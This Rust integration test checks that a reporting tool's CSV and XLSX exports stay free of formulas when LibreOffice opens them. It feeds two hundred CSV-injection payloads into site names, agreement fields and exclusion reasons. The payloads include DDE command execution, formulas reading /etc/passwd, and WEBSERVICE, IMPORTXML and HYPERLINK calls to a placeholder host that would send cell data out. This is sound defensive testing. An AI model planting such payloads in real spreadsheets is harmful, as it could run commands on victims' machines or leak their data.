//! What is written for spreadsheets, opened by one: `LibreOffice` reads two hundred texts that want to be
//! formulas, in every table that carries a person's text, and finds no formula; numbers are numbers.

use std::fmt::Write as _;
use std::path::{Path, PathBuf};
use std::process::Command;

use desserte_probe::clock::{Clock as _, SystemClock};

use crate::processes::{Collector, desserte};

/// What may stand before a formula (OWASP, "CSV Injection", and what spreadsheets skip).
const STARTS: [&str; 20] = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u{a0}=",
    "\u{feff}=",
    "\u{ff1d}",
    "\u{ff0b}",
    "\u{ff0d}",
    "\u{ff20}",
    "\"=",
    "\";=",
    ",=",
    ";=",
    "'=",
    "=-+@",
];
/// What a formula may do.
const BODIES: [&str; 10] = [
    "1+1",
    "SUM(1,2)",
    "A1",
    "HYPERLINK(\"http://192.0.2.1/?\"&A1,\"ouvrir\")",
    "WEBSERVICE(\"http://192.0.2.1/\")",
    "IMPORTXML(\"http://192.0.2.1/\",\"//a\")",
    "cmd|' /C calc'!A0",
    "DDE(\"soffice\",\"/etc/passwd\",\"x\")",
    "2+5+cmd|' /C calc'!A0",
    "'file:///etc/passwd'#$passwd.A1",
];
/// Sites that are taken at least: some of the texts are no names, and refused.
const SITES_MIN: usize = 120;

/// The month that runs, whose exclusions may change.
fn month() -> String {
    let now = jiff::Timestamp::from_millisecond(SystemClock.unix_ms()).unwrap();
    now.strftime("%Y-%m").to_string()
}

fn payloads() -> impl Iterator<Item = String> {
    STARTS
        .iter()
        .flat_map(|start| BODIES.iter().map(move |body| format!("{start}{body}")))
}

/// A text as CSV (RFC 4180) and as TOML write it.
fn csv(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

fn toml(text: &str) -> String {
    serde_json::to_string(text).unwrap()
}

struct Office {
    folder: tempfile::TempDir,
}

impl Office {
    /// `None` where `LibreOffice` is not installed.
    fn found() -> Option<Self> {
        let version = Command::new("soffice").arg("--version").output();
        version
            .is_ok_and(|output| output.status.success())
            .then(|| Self {
                folder: tempfile::tempdir().unwrap(),
            })
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    fn text(&self, name: &str) -> String {
        self.path(name).to_str().unwrap().to_owned()
    }

    /// Opens the files and writes each as flat XML; formulas are evaluated, and none may reach a network.
    fn open(&self, files: &[&str], filter: Option<&str>) {
        let mut command = Command::new("unshare");
        command.args(["--map-root-user", "--net", "--", "soffice", "--headless"]);
        command.arg(format!(
            "-env:UserInstallation=file://{}",
            self.text("profile")
        ));
        command.args(filter.map(|filter| format!("--infilter={filter}")));
        command.args(["--convert-to", "fods", "--outdir", &self.text("opened")]);
        let output = command
            .args(files.iter().map(|file| self.path(file)))
            .output()
            .unwrap();
        assert!(
            output.status.success(),
            "{}",
            String::from_utf8_lossy(&output.stderr)
        );
    }

    fn opened(&self, file: &str) -> String {
        let path = self
            .folder
            .path()
            .join("opened")
            .join(Path::new(file).with_extension("fods"));
        std::fs::read_to_string(&path).unwrap_or_else(|error| panic!("{file}: {error}"))
    }
}

fn formulas(sheet: &str) -> usize {
    sheet.matches("table:formula=").count()
}

/// A data folder whose every text wants to be a formula.
fn hostile_country(office: &Office) -> String {
    let data = office.text("data");
    let mut sites = String::from("id,name,kind,latitude,longitude,place,region,operator\n");
    let mut covered = Vec::new();
    for (number, payload) in payloads().enumerate() {
        let text = csv(&payload);
        let latitude = -4.0 - f64::from(u32::try_from(number).unwrap()) / 100.0;
        let _ = writeln!(
            sites,
            "S-{number},{text},school,{latitude:.2},15.2,{text},{text},{text}"
        );
        covered.push(format!("S-{number}"));
    }
    std::fs::write(office.path("sites.csv"), sites).unwrap();
    let report = desserte(&[
        "import",
        "sites",
        &office.text("sites.csv"),
        "--data",
        &data,
        "--apply",
        "--format",
        "csv",
    ]);
    std::fs::write(office.path("refused.csv"), report).unwrap();
    let listed = desserte(&["sites", "list", "--data", &data, "--format", "csv"]);
    std::fs::write(office.path("listed.csv"), &listed).unwrap();
    covered.retain(|id| listed.contains(&format!("{id},")) || listed.contains(&format!("{id};")));
    assert!(
        covered.len() >= SITES_MIN,
        "{} sites were taken:\n{listed}",
        covered.len()
    );
    let texts: Vec<String> = payloads().collect();
    let agreement = format!(
        "id = \"lot-1\"\nversion = 1\ntitle = {}\nvalid_from = \"2026-01-01\"\ntime_zone = \"Africa/Brazzaville\"\n\
         sites = {covered:?}\nparties = {{ customer = {}, contractor = {} }}\n\
         objective = {{ availability_percent = \"99.5\" }}\n[test]\ntargets = [\"portal\"]\npackets_per_slot = 1\n\
         minimum_sent = 1\n[exclusions]\nclasses = [\"maintenance\"]\n[[target]]\nid = \"portal\"\n\
         measure = {{ http = {{ url = \"http://127.0.0.1:9/\", status_from = 200, status_to = 299, timeout_ms = 1000, \
         body_bytes_max = 4096 }} }}\n",
        toml(&texts[0]),
        toml(&texts[3]),
        toml(&texts[30]),
    );
    std::fs::write(office.path("agreement.toml"), agreement).unwrap();
    desserte(&[
        "agreements",
        "add",
        &office.text("agreement.toml"),
        "--data",
        &data,
    ]);
    for (number, payload) in (1..=texts.len()).zip(texts.iter().step_by(10)) {
        exclude(&data, number, payload);
    }
    approve_all(&data);
    data
}

fn exclude(data: &str, number: usize, payload: &str) {
    let (month, hour) = (month(), number % 20);
    let (from, to) = (
        format!("{month}-{:02}T{hour:02}:00:00+01:00", 1 + number % 28),
        format!("{month}-{:02}T{:02}:00:00+01:00", 1 + number % 28, hour + 1),
    );
    let reason = format!("--reason={payload}");
    desserte(&[
        "agreements",
        "exclude",
        "lot-1",
        "--from",
        &from,
        "--to",
        &to,
        "--class",
        "maintenance",
        "--kind",
        "planned_works",
        "--requested-by==A1",
        &reason,
        "--data",
        data,
    ]);
}

/// Approves what was asked for.
fn approve_all(data: &str) {
    let asked = desserte(&["agreements", "exclusions", "lot-1", "--data", data]);
    let asked: Vec<serde_json::Value> = serde_json::from_str(&asked).unwrap();
    assert!(!asked.is_empty());
    for one in asked {
        let number = one["id"].to_string();
        let approved = ["--approved-by=@SUM(1)", "--data", data];
        desserte(&[&["agreements", "approve", "lot-1", &number], &approved[..]].concat());
    }
}

fn holds_no_formula(office: &Office, file: &str) {
    let sheet = office.opened(file);
    assert_eq!(formulas(&sheet), 0, "{file}");
    let held = file == "refused.csv" || sheet.contains("SUM(1") || sheet.contains("WEBSERVICE(");
    assert!(held, "{file} does not hold the texts");
}

#[test]
fn a_spreadsheet_finds_numbers_and_no_formula_in_what_people_wrote() {
    let Some(office) = Office::found() else {
        println!("skipped: LibreOffice is not installed");
        return;
    };
    let data = hostile_country(&office);
    // A collector has run here: there is a journal.
    Collector::start(Path::new(&data)).kill();
    let scenario = office.text("scenario.toml");
    let name = toml(&payloads().next().unwrap());
    std::fs::write(
        &scenario,
        format!("name = {name}\n[ranking.criteria]\nplace_population = {{ weight = 1 }}\n"),
    )
    .unwrap();
    let mut books = Vec::new();
    let mut tables = vec!["refused.csv", "listed.csv"];
    for format in ["csv", "xlsx"] {
        let write = |name: &str, command: &[&str]| {
            let output = office.text(name);
            let end = ["--data", &data, "--format", format, "--output", &output];
            desserte(&[command, &end].concat());
        };
        let names: [&'static str; 3] = if format == "csv" {
            ["statement.csv", "gaps.csv", "plan.csv"]
        } else {
            ["statement-b.xlsx", "gaps-b.xlsx", "plan-b.xlsx"]
        };
        write(names[0], &["statement", "lot-1", &month()]);
        write(names[1], &["gaps"]);
        write(names[2], &["plan", "--scenario", &scenario]);
        if format == "csv" {
            tables.extend(names);
        } else {
            books.extend(names);
        }
    }
    // That the check can fail: a formula of our own is found by it.
    std::fs::write(office.path("control.csv"), "a;b\n=1+1;x\n").unwrap();
    tables.push("control.csv");
    // Commas, which is wrong for half of them, and then semicolons; quotes, UTF-8, from line 1.
    for separator in [44, 59] {
        office.open(&tables, Some(&format!("CSV:{separator},34,76,1")));
        assert!(formulas(&office.opened("control.csv")) > 0);
        for file in tables.iter().filter(|file| **file != "control.csv") {
            holds_no_formula(&office, file);
        }
    }
    office.open(&books, None);
    for file in &books {
        holds_no_formula(&office, file);
    }
    for file in ["statement-b.xlsx", "statement.csv"] {
        let sheet = office.opened(file);
        let numbers = sheet.matches("office:value-type=\"float\"").count();
        assert!(numbers >= SITES_MIN, "{file}: {numbers} numbers");
    }
}
